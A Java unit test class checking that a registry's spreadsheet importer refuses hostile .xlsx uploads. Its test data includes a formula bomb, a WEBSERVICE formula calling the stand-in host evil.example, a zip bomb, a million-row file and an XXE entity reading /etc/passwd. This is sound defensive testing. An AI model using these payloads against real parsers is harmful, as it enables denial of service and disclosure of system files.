package org.anbiao.registry.importing;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.anbiao.registry.RegistrySamples;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.Test;

/** Broken and hostile files are refused as a whole, in words, and nothing of them is kept. */
class ImportHostileFilesTest extends ImportTestBase {

    private static final String SHEET_START =
            "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>";
    private static final String SHEET_END = "</sheetData></worksheet>";

    @Test
    void aFileThatIsNoTemplateIsRefusedAsAWhole() throws IOException {
        Path text = folder.resolve("text.xlsx");
        Files.writeString(text, "代码,名称");
        Path headless = folder.resolve("headless.xlsx");
        try (OutputStream out = Files.newOutputStream(headless);
                Workbook workbook = new Workbook(out, "test", "1.0")) {
            workbook.newWorksheet("a").value(0, 0, "名称");
        }

        assertThat(service.get(service.check("text.xlsx", text)).refusal()).contains("不是 .xlsx");
        assertThat(service.get(service.check("headless.xlsx", headless)).refusal())
                .contains("缺少“统一社会信用代码”");
    }

    @Test
    void aFormulaBombIsRefusedRowByRowAndNeverComputed() throws IOException {
        Path file = folder.resolve("formulas.xlsx");
        try (OutputStream out = Files.newOutputStream(file);
                Workbook workbook = new Workbook(out, "test", "1.0")) {
            Worksheet sheet = workbook.newWorksheet("a");
            for (ImportColumn column : ImportColumn.values()) {
                sheet.value(0, column.ordinal(), column.heading(messages));
            }
            for (int line = 1; line <= 5; line++) {
                sheet.value(line, ImportColumn.CODE.ordinal(), RegistrySamples.code());
                for (ImportColumn column : ImportColumn.values()) {
                    if (column != ImportColumn.CODE) {
                        sheet.formula(
                                line,
                                column.ordinal(),
                                column.ordinal() % 2 == 0
                                        ? "REPT(REPT(\"9\",32767),32767)"
                                        : "WEBSERVICE(\"http://evil.example\")");
                    }
                }
            }
        }

        UUID id = service.check("formulas.xlsx", file);

        assertThat(service.get(id).bad()).isEqualTo(5);
        assertThat(service.get(id).toApply()).isZero();
        assertThat(service.problems(id, 1).get(0).problems()).contains("是公式");
    }

    @Test
    void aZipBombIsRefused() {
        assertRefused(sheet("<!-- a comment of no use -->".repeat(2_000_000)), "压缩");
    }

    @Test
    void aMillionEmptyRowsAreRefused() {
        StringBuilder rows = new StringBuilder();
        for (int i = 1; i <= 1_000_000; i++) {
            rows.append("<row r=\"").append(i).append("\"/>");
        }

        assertRefused(sheet(rows.toString()), "行");
    }

    @Test
    void externalEntitiesAreRefused() {
        String head = "<!DOCTYPE worksheet [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>";
        String row = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&x;</t></is></c></row>";

        assertRefused(zip(head + SHEET_START + row + SHEET_END), "");
    }

    private void assertRefused(Path file, String words) {
        UUID id = service.check("hostile.xlsx", file);
        RegistryImport refused = service.get(id);
        assertThat(refused.state()).isEqualTo(RegistryImport.State.REFUSED);
        assertThat(refused.refusal()).isNotBlank().contains(words).doesNotContain("!", "root:");
        assertThat(stagedRows(id)).isZero();
        assertThat(names()).isEmpty();
    }

    private Path sheet(String rows) {
        return zip(SHEET_START + rows + SHEET_END);
    }

    private Path zip(String sheet) {
        Path file = folder.resolve(UUID.randomUUID() + ".xlsx");
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(file))) {
            put(out, "[Content_Types].xml", """
                    <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                    <Override PartName="/xl/workbook.xml"
                     ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
                    <Override PartName="/xl/worksheets/sheet1.xml"
                     ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>""");
            put(out, "xl/workbook.xml", """
                    <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
                     xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
                    <sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>""");
            put(out, "xl/worksheets/sheet1.xml", sheet);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return file;
    }

    private static void put(ZipOutputStream out, String name, String content) throws IOException {
        out.putNextEntry(new ZipEntry(name));
        out.write(content.getBytes(StandardCharsets.UTF_8));
        out.closeEntry();
    }
}
